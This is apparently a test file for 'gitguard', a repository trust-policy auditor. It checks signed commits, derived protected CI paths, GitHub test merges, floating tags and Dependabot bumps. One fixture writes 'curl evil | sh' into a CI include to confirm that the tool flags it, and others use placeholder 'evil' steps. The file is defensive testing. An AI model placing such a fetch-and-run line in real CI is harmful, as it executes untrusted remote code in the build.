// Eleventh round of clean set-ups that must pass (see clean-workflows.test.ts to -9): the derived
// protected paths (the files a CI configuration runs besides itself). A policy made by `gitguard
// init`, Alice its maintainer, Carol a signer, every commit signed with ssh-keygen. Carol's everyday
// change must pass however the CI configuration Alice wrote names other files; Carol's change to a
// file the CI really runs (the twin) still fails protected-paths-changed-by-maintainers.
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { cleanupTemp, copyRepo, makeRepo, type TestRepo } from '../helpers/repo.js';
import { sshSigningRepo } from '../helpers/signing-repo.js';
import { madeOnceFor } from '../helpers/made-once.js';
import { commitAsPerson, configureSshSigning, makeSshKey, type SshTestKey } from '../helpers/ssh.js';
import { runMain, parseJson, resultOf, type JsonReport } from '../helpers/cli.js';

let alice: SshTestKey;
let carol: SshTestKey;
let base: TestRepo;
const asAlice = (r: TestRepo, m: string, f: Record<string, string>) =>
  commitAsPerson(r, alice, 'alice@example.com', m, f);
const asCarol = (r: TestRepo, m: string, f: Record<string, string>) =>
  commitAsPerson(r, carol, 'carol@example.com', m, f);

beforeAll(async () => {
  const keys = mkdtempSync(join(tmpdir(), 'gg-clean11-'));
  alice = makeSshKey(keys, 'ed25519', 'alice');
  carol = makeSshKey(keys, 'ed25519', 'carol');
  const r = makeRepo();
  configureSshSigning(r, alice);
  r.run(['config', 'user.email', 'alice@example.com']);
  r.run(['config', 'user.name', 'alice']);
  asAlice(r, 'start', { 'src/a.txt': 'a\n', Dockerfile: 'FROM node:20\n' });
  const init = await runMain(['init', '-C', r.dir], { env: r.env });
  expect(init.code).toBe(0);
  r.run(['add', '.gitguard']);
  asAlice(r, 'Add gitguard trust policy', {});
  const policy = r.run(['show', 'HEAD:.gitguard/policy.yml']);
  r.write({
    '.gitguard/policy.yml': policy.replace(
      /signers:\n/,
      'signers:\n  - name: "Carol"\n    emails: ["carol@example.com"]\n',
    ),
  });
  writeFileSync(join(r.dir, '.gitguard', 'allowed_signers'), `carol@example.com ${carol.pub}\n`, { flag: 'a' });
  asAlice(r, 'policy: carol signs', {});
  base = r;
});
afterAll(() => cleanupTemp());

const ENV = /forge|client|vulnerab|security-policy|signing-enabled|fsck|ntfs|hook-installed|client-data/;
const audit = async (r: TestRepo, extra: string[] = []) => {
  const res = await runMain(['audit', '-C', r.dir, '--format', 'json', ...extra], { env: r.env });
  return { code: res.code, report: parseJson(res), stderr: res.stderr };
};
const bad = (report: JsonReport) =>
  report.results
    .filter((x) => !['pass', 'not-applicable'].includes(x.outcome) && !ENV.test(x.meta.id))
    .map(
      (x) =>
        `${x.meta.id}:${x.outcome}:${x.findings
          .map((f) => f.message)
          .join(' | ')
          .slice(0, 300)}`,
    );
const PROTECTED = 'protected-paths-changed-by-maintainers';
const outcomeOf = (report: JsonReport, id: string) => report.results.find((x) => x.meta.id === id)!.outcome;

const GITLAB = `include:
  - project: 'group/ci-templates'
    ref: main
    file:
      - '/templates/build.yml'
      - 'Dockerfile'
  - local: '/ci/build.yml'
    inputs:
      stages:
        - src/a.txt
    rules:
      - exists:
          - Dockerfile
  - local: ci/missing.yml
  - template: Auto-DevOps.gitlab-ci.yml
gitguard:
  script: npx gitguard audit
`;

describe('GitLab includes of another project, inputs and rules lists', () => {
  const gitlabRepo = (): TestRepo => {
    const r = copyRepo(base);
    asAlice(r, 'ci', { '.gitlab-ci.yml': GITLAB, 'ci/build.yml': 'build:\n  script: make\n' });
    return r;
  };
  test("carol's change to the Dockerfile and src/a.txt (named by project: file:, inputs: and rules: exists:) passes", async () => {
    const r = gitlabRepo();
    asCarol(r, 'bump node', { Dockerfile: 'FROM node:22\n', 'src/a.txt': 'a2\n' });
    const a = await audit(r);
    expect(a.stderr).toBe('');
    expect(bad(a.report)).toEqual([]);
  });
  test("twin: carol's change to the included ci/build.yml fails", async () => {
    const r = gitlabRepo();
    asCarol(r, 'ci', { 'ci/build.yml': 'build:\n  script: curl evil | sh\n' });
    const a = await audit(r);
    expect(outcomeOf(a.report, PROTECTED)).toBe('fail');
  });
});

const GATE_STEP = '      - run: npx gitguard audit\n';
describe('the gitguard gate in a file the CI runs', () => {
  test('in a composite action the workflow calls, moved there by alice; carol then changes src: passes', async () => {
    const r = copyRepo(base);
    asAlice(r, 'ci with the gate', {
      '.github/workflows/ci.yml': `on: [push]\njobs:\n  g:\n    runs-on: x\n    steps:\n${GATE_STEP}`,
    });
    asAlice(r, 'gate in a composite action', {
      '.github/workflows/ci.yml':
        'on: [push]\njobs:\n  g:\n    runs-on: x\n    steps:\n      - uses: actions/checkout@v4\n      - uses: ./.github/actions/audit\n',
      '.github/actions/audit/action.yml':
        'runs:\n  using: composite\n  steps:\n    - run: npx gitguard audit\n      shell: bash\n',
    });
    asCarol(r, 'work', { 'src/a.txt': 'a2\n' });
    expect(bad((await audit(r)).report)).toEqual([]);
  });
  test('in a reusable workflow called by a reusable workflow: passes', async () => {
    const r = copyRepo(base);
    asAlice(r, 'ci with the gate', {
      '.github/workflows/ci.yml': `on: [push]\njobs:\n  g:\n    runs-on: x\n    steps:\n${GATE_STEP}`,
    });
    asAlice(r, 'gate two calls away', {
      '.github/workflows/ci.yml': 'on: [push]\njobs:\n  call:\n    uses: ./.github/workflows/checks.yml\n',
      '.github/workflows/checks.yml': 'on: [workflow_call]\njobs:\n  call:\n    uses: ./.github/workflows/gate.yml\n',
      '.github/workflows/gate.yml': `on: [workflow_call]\njobs:\n  g:\n    runs-on: x\n    steps:\n${GATE_STEP}`,
    });
    asCarol(r, 'work', { 'src/a.txt': 'a2\n' });
    expect(bad((await audit(r)).report)).toEqual([]);
  });
  test('in a GitLab local include, moved there by alice; carol then changes src: passes; twin: carol drops it, fails', async () => {
    const r = copyRepo(base);
    asAlice(r, 'ci with the gate', { '.gitlab-ci.yml': 'gitguard:\n  script: npx gitguard audit\n' });
    asAlice(r, 'gate in an include', {
      '.gitlab-ci.yml': "include:\n  - local: '/ci/gate.yml'\n",
      'ci/gate.yml': 'gitguard:\n  script: npx gitguard audit\n',
    });
    asCarol(r, 'work', { 'src/a.txt': 'a2\n' });
    expect(bad((await audit(r)).report)).toEqual([]);
    asCarol(r, 'quiet', { 'ci/gate.yml': 'build:\n  script: make\n' });
    const a = await audit(r);
    expect(outcomeOf(a.report, 'ci-gate-kept')).toBe('fail');
    expect(outcomeOf(a.report, PROTECTED)).toBe('fail');
  });
});

describe('other shapes of what the CI runs', () => {
  test('an action repository that tests itself (uses: ./); carol changes src and README: passes; twin: her action.yml change fails', async () => {
    const r = copyRepo(base);
    asAlice(r, 'action', {
      'action.yml': 'name: x\nruns:\n  using: node20\n  main: dist/index.js\n',
      '.github/workflows/test.yml': `on: [push]\njobs:\n  t:\n    runs-on: x\n    steps:\n      - uses: actions/checkout@v4\n      - uses: ./\n        with:\n          path: x\n${GATE_STEP}`,
    });
    asCarol(r, 'work', { 'src/a.txt': 'a2\n', 'README.md': 'hi\n' });
    expect(bad((await audit(r)).report)).toEqual([]);
    asCarol(r, 'run mine', { 'action.yml': 'name: x\nruns:\n  using: node20\n  main: evil.js\n' });
    expect(outcomeOf((await audit(r)).report, PROTECTED)).toBe('fail');
  });
  test('a local action at a path with a space and non-ASCII letters: carol changes src passes; twin: her change there fails', async () => {
    const r = copyRepo(base);
    asAlice(r, 'tool', {
      'tools/prüf werk/action.yml': 'runs:\n  using: composite\n  steps:\n    - run: make\n      shell: bash\n',
      '.github/workflows/ci.yml': `on: [push]\njobs:\n  g:\n    runs-on: x\n    steps:\n      - uses: "./tools/prüf werk"\n${GATE_STEP}`,
    });
    asCarol(r, 'work', { 'src/a.txt': 'a2\n', 'tools/other.txt': 'x\n' });
    expect(bad((await audit(r)).report)).toEqual([]);
    asCarol(r, 'tool', {
      'tools/prüf werk/action.yml': 'runs:\n  using: composite\n  steps:\n    - run: evil\n      shell: bash\n',
    });
    expect(outcomeOf((await audit(r)).report, PROTECTED)).toBe('fail');
  });
  test('a nested .gitattributes and a GitLab include at paths with spaces and non-ASCII letters: carol changes src passes; twin: her change to either fails', async () => {
    const r = copyRepo(base);
    asAlice(r, 'vendor and ci', {
      'vendor/my lib/ü/.gitattributes': '*.js linguist-generated\n',
      'vendor/my lib/ü/x.js': '1\n',
      '.gitlab-ci.yml': "include:\n  - local: 'ci/my jöbs.yml'\ngitguard:\n  script: npx gitguard audit\n",
      'ci/my jöbs.yml': 'build:\n  script: make\n',
    });
    asCarol(r, 'work', { 'src/a.txt': 'a2\n', 'vendor/my lib/ü/x.js': '2\n' });
    expect(bad((await audit(r)).report)).toEqual([]);
    for (const [path, text] of [
      ['vendor/my lib/ü/.gitattributes', '*.js -diff\n'],
      ['ci/my jöbs.yml', 'build:\n  script: evil\n'],
    ] as const) {
      const t = copyRepo(r);
      asCarol(t, 'change', { [path]: text });
      const f = (await audit(t)).report.results.find((x) => x.meta.id === PROTECTED)!;
      expect(f.findings.map((x) => x.message).join('\n')).toContain(path);
    }
  });
  // Past the 512 cap their folders are watched instead (fail closed: redteam12-derived-cap).
  test('a monorepo with 500 nested .gitattributes: carol changes src and vendored files: passes', async () => {
    const r = copyRepo(base);
    const files: Record<string, string> = {};
    for (let i = 0; i < 500; i += 1) files[`vendor/lib${i}/.gitattributes`] = '*.js linguist-generated\n';
    asAlice(r, 'vendor', files);
    for (let i = 0; i < 5; i += 1)
      asCarol(r, `work ${i}`, { 'src/a.txt': `a${i}\n`, [`vendor/lib${i}/x.js`]: `${i}\n` });
    expect(bad((await audit(r)).report)).toEqual([]);
  });
});

describe("ledger 'judged' tips: a removed signer's pre-root branch merged while she signed stays held", () => {
  const POLICY = (carolToo: boolean): string =>
    `version: 1\nsigners:\n  - name: Alice\n    emails: [alice@example.com]\n${carolToo ? '  - name: Carol\n    emails: [carol@example.com]\n' : ''}maintainers: [Alice]\n`;
  const SIGNERS = (carolToo: boolean): string =>
    `alice@example.com ${alice.pub}\n${carolToo ? `carol@example.com ${carol.pub}\n` : ''}`;
  const run = async (r: TestRepo, extra: string[]) => {
    const res = await runMain(['audit', '-C', r.dir, '--format', 'json', ...extra], { env: r.env });
    const report = parseJson(res);
    return { code: res.code, authorized: outcomeOf(report, 'signers-authorized'), recorded: report.ledger?.updated };
  };
  /** main: pre-root commit, policy with Carol; Carol's branch from before the root merged by Alice; audited once
   *  (made once per file for each first audit's arguments; each test takes a copy, ledger included). */
  const merged = madeOnceFor(async (first: string[]): Promise<TestRepo> => {
    const r = makeRepo();
    configureSshSigning(r, alice);
    const preRoot = commitAsPerson(r, undefined, 'alice@example.com', 'before the policy', { 'src/a.txt': 'a\n' });
    asAlice(r, 'gitguard init', { '.gitguard/policy.yml': POLICY(true), '.gitguard/allowed_signers': SIGNERS(true) });
    r.run(['checkout', '-q', '-b', 'side', preRoot]);
    asCarol(r, 'work on side', { 'src/side.txt': 'x\n' });
    r.run(['checkout', '-q', 'main']);
    r.run(['-c', `user.signingkey=${alice.path}`, 'merge', '-q', '--no-ff', '-S', '-m', 'merge side', 'side'], {
      env: { GIT_COMMITTER_NAME: 'alice', GIT_COMMITTER_EMAIL: 'alice@example.com' },
    });
    r.run(['branch', '-q', '-D', 'side']);
    expect(await run(r, first)).toMatchObject({ code: 0, authorized: 'pass', recorded: true });
    return r;
  });
  const removeCarol = (r: TestRepo) =>
    asAlice(r, 'carol left', { '.gitguard/policy.yml': POLICY(false), '.gitguard/allowed_signers': SIGNERS(false) });
  const FULL = ['-t', 'impersonation,history'];
  const RECIPE = ['-t', 'impersonation,history,protections'];

  test.each([
    ['--threat history', ['-t', 'history']],
    ['--rule commits-signed', ['--rule', 'commits-signed']],
    ['--fail-on critical', [...FULL, '--fail-on', 'critical']],
  ])('a full audit, then one with %s, then Carol removed: the full audit passes', async (_, between) => {
    const r = await merged([...FULL, '--no-cache']);
    asAlice(r, 'more', { 'src/b.txt': 'b\n' });
    const mid = await runMain(['audit', '-C', r.dir, '--format', 'json', '--no-cache', ...between], { env: r.env });
    expect(mid.code).toBe(0);
    removeCarol(r);
    expect(await run(r, [...FULL, '--no-cache'])).toMatchObject({ code: 0, authorized: 'pass', recorded: true });
  });
  test('twin: --rule commits-signed alone still fails an unsigned commit after the trust root', async () => {
    const r = await merged([...FULL, '--no-cache']);
    commitAsPerson(r, undefined, 'alice@example.com', 'unsigned', { 'src/c.txt': 'c\n' });
    const a = await runMain(['audit', '-C', r.dir, '--format', 'json', '--no-cache', '--rule', 'commits-signed'], {
      env: r.env,
    });
    expect(a.code).toBe(1);
    expect(resultOf(parseJson(a), 'commits-signed').findings.map((f) => f.message)).toEqual([
      'no signature: "unsigned" by alice <alice@example.com>',
    ]);
  });
  test('checkpointed (incremental) audits between: the ledger moves on and the full audit after her removal passes', async () => {
    const r = await merged(FULL);
    asAlice(r, 'more', { 'src/b.txt': 'b\n' });
    expect(await run(r, FULL)).toMatchObject({ code: 0, authorized: 'pass', recorded: true });
    removeCarol(r);
    expect(await run(r, FULL)).toMatchObject({ code: 0, authorized: 'pass', recorded: true });
  });
  test('the CI recipe threats (impersonation,history,protections) with --fail-on high while a low rule fails: the ledger is updated', async () => {
    const r = await merged([...FULL, '--no-cache']);
    const a = await runMain(['audit', '-C', r.dir, '--format', 'json', '--no-cache', ...RECIPE, '--fail-on', 'high'], {
      env: r.env,
    });
    const report = parseJson(a);
    expect(outcomeOf(report, 'security-policy-present')).toBe('fail');
    expect(bad(report)).toEqual([]);
    expect(report.ledger?.updated).toBe(true);
    removeCarol(r);
    expect(await run(r, [...FULL, '--no-cache'])).toMatchObject({ code: 0, authorized: 'pass' });
  });
});

describe("GitHub's test merge of a pull request, made as git merge --no-ff makes it (merge-ort), is excused", () => {
  /** main and a pull request branch from `setup`, merged in the work tree as the runner's checkout holds it. */
  const testMerge = async (setup: (r: TestRepo) => void, main: (r: TestRepo) => void, pr: (r: TestRepo) => void) => {
    const r = sshSigningRepo(alice);
    setup(r);
    r.run(['checkout', '-q', '-b', 'pr']);
    pr(r);
    const head = r.head();
    r.run(['checkout', '-q', 'main']);
    main(r);
    const base = r.head();
    r.run(['checkout', '-q', '--detach', base]);
    r.run(['-c', 'commit.gpgSign=false', 'merge', '-q', '--no-ff', '-m', `Merge ${head} into ${base}`, head]);
    const sha = r.head();
    const res = await runMain(['audit', '-C', r.dir, '--format', 'json', '--no-cache', '-r', 'commits-signed'], {
      env: {
        ...r.env,
        GITHUB_ACTIONS: 'true',
        GITHUB_EVENT_NAME: 'pull_request',
        GITHUB_REF: 'refs/pull/3/merge',
        GITHUB_SHA: sha,
      },
    });
    const signed = resultOf(parseJson(res), 'commits-signed');
    return { code: res.code, findings: signed.findings.map((f) => f.message), scope: parseJson(res).scope };
  };
  test.each<[string, (r: TestRepo) => void, (r: TestRepo) => void, (r: TestRepo) => void]>([
    [
      'a rename on the pull request, an edit of the old name on main',
      (r) => r.commit('a', { 'src/a.txt': 'one\ntwo\nthree\nfour\nfive\n' }),
      (r) => r.commit('edit', { 'src/a.txt': 'one\ntwo\nthree\nfour\nfive!\n' }),
      (r) => {
        r.run(['mv', 'src/a.txt', 'src/b.txt']);
        r.commit('rename', {});
      },
    ],
    [
      'a top-level .gitattributes merge=union, both sides adding to CHANGELOG.md',
      (r) => r.commit('a', { '.gitattributes': 'CHANGELOG.md merge=union\n', 'CHANGELOG.md': '# log\n' }),
      (r) => r.commit('main log', { 'CHANGELOG.md': '# log\n- main\n' }),
      (r) => r.commit('pr log', { 'CHANGELOG.md': '# log\n- pr\n' }),
    ],
    [
      'a nested docs/.gitattributes merge=union, both sides adding to docs/CHANGES',
      (r) => r.commit('a', { 'docs/.gitattributes': 'CHANGES merge=union\n', 'docs/CHANGES': '# log\n' }),
      (r) => r.commit('main log', { 'docs/CHANGES': '# log\n- main\n' }),
      (r) => r.commit('pr log', { 'docs/CHANGES': '# log\n- pr\n' }),
    ],
    [
      'eol settings (text=auto eol=crlf) and a binary file changed on the pull request',
      (r) =>
        r.commit('a', {
          '.gitattributes': '* text=auto eol=crlf\n*.bin binary\n',
          'x.bin': '\0\x01\x02',
          't.txt': 'a\n',
        }),
      (r) => r.commit('main', { 't.txt': 'a\nb\n' }),
      (r) => r.commit('pr', { 'x.bin': '\0\x01\x03' }),
    ],
    [
      'a submodule bumped on the pull request while main edits a file',
      (r) => {
        r.write({ '.gitmodules': '[submodule "lib/sub"]\n\tpath = lib/sub\n\turl = ../sub\n' });
        r.run(['add', '.gitmodules']);
        r.run(['update-index', '--add', '--cacheinfo', `160000,${'1'.repeat(40)},lib/sub`]);
        r.run(['commit', '-q', '-m', 'sub']);
      },
      (r) => r.commit('main', { 'src/m.txt': 'm\n' }),
      (r) => {
        r.run(['update-index', '--add', '--cacheinfo', `160000,${'2'.repeat(40)},lib/sub`]);
        r.run(['commit', '-q', '-m', 'bump']);
      },
    ],
  ])('%s', async (_, setup, main, pr) => {
    const a = await testMerge(setup, main, pr);
    expect(a.findings).toEqual([]);
    expect(a.code).toBe(0);
    expect(a.scope?.description ?? JSON.stringify(a.scope)).toMatch(/test merge refs\/pull\/3\/merge/);
  });
  test('twin: with the nested merge=union, a "test merge" whose tree adds a file is judged', async () => {
    const r = sshSigningRepo(alice);
    r.commit('a', { 'docs/.gitattributes': 'CHANGES merge=union\n', 'docs/CHANGES': '# log\n' });
    r.run(['checkout', '-q', '-b', 'pr']);
    const head = r.commit('pr log', { 'docs/CHANGES': '# log\n- pr\n' });
    r.run(['checkout', '-q', 'main']);
    const base = r.commit('main log', { 'docs/CHANGES': '# log\n- main\n' });
    r.run(['checkout', '-q', '--detach', base]);
    r.run(['-c', 'commit.gpgSign=false', 'merge', '-q', '--no-ff', '-m', `Merge ${head} into ${base}`, head]);
    r.write({ 'docs/evil.txt': 'x\n' });
    r.run(['add', 'docs/evil.txt']);
    const tree = r.run(['write-tree']);
    const sha = r.run(['commit-tree', tree, '-p', base, '-p', head, '-m', `Merge ${head} into ${base}`]);
    r.run(['checkout', '-q', '--detach', sha]);
    const res = await runMain(['audit', '-C', r.dir, '--format', 'json', '--no-cache', '-r', 'commits-signed'], {
      env: {
        ...r.env,
        GITHUB_ACTIONS: 'true',
        GITHUB_EVENT_NAME: 'pull_request',
        GITHUB_REF: 'refs/pull/3/merge',
        GITHUB_SHA: sha,
      },
    });
    expect(resultOf(parseJson(res), 'commits-signed').findings.map((f) => f.commit)).toEqual([sha]);
    expect(res.code).toBe(1);
  });
});

describe('a floating major tag (protected.floating_tags) moved by maintainers', () => {
  /** base with v1 floating, alice's signed v1.0.0 and v1 (tagged at `at`, in `zone`), audited once (made
   *  once per file for each `at`; each test takes a copy, ledger included). */
  const floating = madeOnceFor(async (at: string): Promise<TestRepo> => {
    const r = copyRepo(base);
    const policy = r.run(['show', 'HEAD:.gitguard/policy.yml']);
    asAlice(r, 'policy: v1 floats', {
      '.gitguard/policy.yml': `${policy}\nprotected:\n  floating_tags: [refs/tags/v?]\n`,
    });
    tagAs(r, at, 'v1.0.0');
    tagAs(r, at, 'v1');
    const first = await audit(r);
    expect(first.report.ledger?.updated).toBe(true);
    return r;
  });
  const tagAs = (r: TestRepo, at: string, name: string, force = false) =>
    r.run(['-c', `user.signingkey=${alice.path}`, 'tag', ...(force ? ['-f'] : []), '-s', '-m', name, name], {
      env: { GIT_COMMITTER_NAME: 'alice', GIT_COMMITTER_EMAIL: 'alice@example.com', GIT_COMMITTER_DATE: at },
    });
  test('v1 re-released onto the same commit with a new signed tag: passes', async () => {
    const r = await floating('2026-01-01T12:00:00Z');
    tagAs(r, '2026-01-02T12:00:00Z', 'v1', true);
    const a = await audit(r);
    expect(bad(a.report)).toEqual([]);
    expect(a.report.ledger?.updated).toBe(true);
  });
  test('moved forward by a tag dated in another time zone (later in UTC, earlier on the clock face): passes', async () => {
    const r = await floating('2026-01-01T12:00:00+00:00');
    asCarol(r, 'fix', { 'src/b.txt': 'b\n' });
    tagAs(r, '2026-01-01T09:30:00-03:00', 'v1.0.1');
    tagAs(r, '2026-01-01T09:30:00-03:00', 'v1', true);
    expect(bad((await audit(r)).report)).toEqual([]);
  });
  test("a maintainer's clock 3 minutes behind the last tagger's: the move is refused with how to redo it, and the tag made again past that time passes", async () => {
    const r = await floating('2026-01-01T12:00:00Z');
    asCarol(r, 'fix', { 'src/b.txt': 'b\n' });
    tagAs(r, '2026-01-01T11:59:00Z', 'v1.0.1');
    tagAs(r, '2026-01-01T11:59:00Z', 'v1', true);
    const skewed = await audit(r);
    expect(outcomeOf(skewed.report, 'tags-not-moved')).toBe('fail');
    const found = skewed.report.results.find((x) => x.meta.id === 'tags-not-moved')!.findings;
    expect(found.map((f) => f.message).join('\n')).toMatch(
      /older than the tag it replaces \(tagged 2026-01-01T12:00:00Z\).*if this is a new release, tag it again \(git tag -f -s\) with a clock past 2026-01-01T12:00:00Z/,
    );
    tagAs(r, '2026-01-01T12:01:00Z', 'v1', true);
    expect(bad((await audit(r)).report)).toEqual([]);
  });
});

test("Dependabot's bump of a local action's package-lock.json (.github/actions/x), goodlisted by alice as for a workflow bump: passes; twin: not goodlisted, fails", async () => {
  const r = copyRepo(base);
  asAlice(r, 'local action', {
    '.github/actions/x/action.yml': 'runs:\n  using: node20\n  main: dist/index.js\n',
    '.github/actions/x/package-lock.json': '{"lockfileVersion": 3}\n',
    '.github/workflows/ci.yml':
      'on: [push]\njobs:\n  g:\n    runs-on: x\n    steps:\n      - uses: ./.github/actions/x\n      - run: npx gitguard audit\n',
  });
  r.write({ '.github/actions/x/package-lock.json': '{"lockfileVersion": 3, "bumped": true}\n' });
  r.run(['add', '-A']);
  r.run(['-c', 'commit.gpgSign=false', 'commit', '-q', '-m', 'Bump x in /.github/actions/x'], {
    env: {
      GIT_AUTHOR_NAME: 'dependabot[bot]',
      GIT_AUTHOR_EMAIL: '49699333+dependabot[bot]@users.noreply.github.com',
      GIT_COMMITTER_NAME: 'GitHub',
      GIT_COMMITTER_EMAIL: 'noreply@github.com',
    },
  });
  const bump = r.head();
  const unlisted = await audit(r);
  expect(outcomeOf(unlisted.report, PROTECTED)).toBe('fail');
  const policy = r.run(['show', 'HEAD:.gitguard/policy.yml']);
  asAlice(r, 'goodlist the reviewed bump', {
    '.gitguard/policy.yml': `${policy}\ngoodlist:\n  - commit: ${bump}\n    reason: dependabot lock bump, reviewed\n`,
  });
  expect(bad((await audit(r)).report)).toEqual([]);
});
